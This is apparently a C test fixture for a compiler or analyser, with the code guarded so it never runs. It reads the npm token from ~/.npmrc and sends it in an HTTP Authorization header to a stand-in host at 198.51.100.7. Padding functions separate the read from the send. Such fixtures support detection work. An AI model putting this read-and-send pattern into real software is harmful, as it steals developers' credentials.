/* A client reads the file of its own service, and another function connects.
 * expect: pass
 * flags: -O2
 */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static char token[200];

__attribute__((noinline)) static int settings(void) {
    char path[300];
    snprintf(path, sizeof path, "%s/.npmrc", getenv("HOME"));
    FILE *f = fopen(path, "r");
    if (!f || !fgets(token, sizeof token, f))
        return fprintf(stderr, "log in first\n");
    return 0;
}

__attribute__((noinline)) static int step0(int n) {
    for (int i = 0; i < n; i++)
        printf("%d %x %o\n", n * 3, i, n ^ i);
    for (int i = n; i > 0; i -= 1)
        printf("%d %x\n", i, n % i), fprintf(stderr, "%d\n", i);
    return n;
}

__attribute__((noinline)) static int step1(int n) {
    for (int i = 0; i < n; i++)
        printf("%d %x %o\n", n * 4, i, n ^ i);
    for (int i = n; i > 0; i -= 2)
        printf("%d %x\n", i, n % i), fprintf(stderr, "%d\n", i);
    return n;
}

__attribute__((noinline)) static int step2(int n) {
    for (int i = 0; i < n; i++)
        printf("%d %x %o\n", n * 5, i, n ^ i);
    for (int i = n; i > 0; i -= 3)
        printf("%d %x\n", i, n % i), fprintf(stderr, "%d\n", i);
    return n;
}

__attribute__((noinline)) static int step3(int n) {
    for (int i = 0; i < n; i++)
        printf("%d %x %o\n", n * 6, i, n ^ i);
    for (int i = n; i > 0; i -= 4)
        printf("%d %x\n", i, n % i), fprintf(stderr, "%d\n", i);
    return n;
}

__attribute__((noinline)) static int step4(int n) {
    for (int i = 0; i < n; i++)
        printf("%d %x %o\n", n * 7, i, n ^ i);
    for (int i = n; i > 0; i -= 5)
        printf("%d %x\n", i, n % i), fprintf(stderr, "%d\n", i);
    return n;
}

__attribute__((noinline)) static int step5(int n) {
    for (int i = 0; i < n; i++)
        printf("%d %x %o\n", n * 8, i, n ^ i);
    for (int i = n; i > 0; i -= 6)
        printf("%d %x\n", i, n % i), fprintf(stderr, "%d\n", i);
    return n;
}

__attribute__((noinline)) static int step6(int n) {
    for (int i = 0; i < n; i++)
        printf("%d %x %o\n", n * 9, i, n ^ i);
    for (int i = n; i > 0; i -= 7)
        printf("%d %x\n", i, n % i), fprintf(stderr, "%d\n", i);
    return n;
}

__attribute__((noinline)) static int step7(int n) {
    for (int i = 0; i < n; i++)
        printf("%d %x %o\n", n * 10, i, n ^ i);
    for (int i = n; i > 0; i -= 8)
        printf("%d %x\n", i, n % i), fprintf(stderr, "%d\n", i);
    return n;
}

__attribute__((noinline)) static int step8(int n) {
    for (int i = 0; i < n; i++)
        printf("%d %x %o\n", n * 11, i, n ^ i);
    for (int i = n; i > 0; i -= 9)
        printf("%d %x\n", i, n % i), fprintf(stderr, "%d\n", i);
    return n;
}

__attribute__((noinline)) static int step9(int n) {
    for (int i = 0; i < n; i++)
        printf("%d %x %o\n", n * 12, i, n ^ i);
    for (int i = n; i > 0; i -= 10)
        printf("%d %x\n", i, n % i), fprintf(stderr, "%d\n", i);
    return n;
}

__attribute__((noinline)) static int step10(int n) {
    for (int i = 0; i < n; i++)
        printf("%d %x %o\n", n * 13, i, n ^ i);
    for (int i = n; i > 0; i -= 11)
        printf("%d %x\n", i, n % i), fprintf(stderr, "%d\n", i);
    return n;
}

__attribute__((noinline)) static int step11(int n) {
    for (int i = 0; i < n; i++)
        printf("%d %x %o\n", n * 14, i, n ^ i);
    for (int i = n; i > 0; i -= 12)
        printf("%d %x\n", i, n % i), fprintf(stderr, "%d\n", i);
    return n;
}

__attribute__((noinline)) static int ask(void) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(80)};
    inet_pton(AF_INET, "198.51.100.7", &to.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    return connect(s, (void *)&to, sizeof to) ? 1 : dprintf(s, "GET /-/whoami HTTP/1.0\r\nAuthorization: %s\r\n\r\n", token);
}

static int act(void) {
    settings();
    step0(never);
    step1(never);
    step2(never);
    step3(never);
    step4(never);
    step5(never);
    step6(never);
    step7(never);
    step8(never);
    step9(never);
    step10(never);
    step11(never);
    return ask();
}

int main(void) { return never ? act() : 0; }
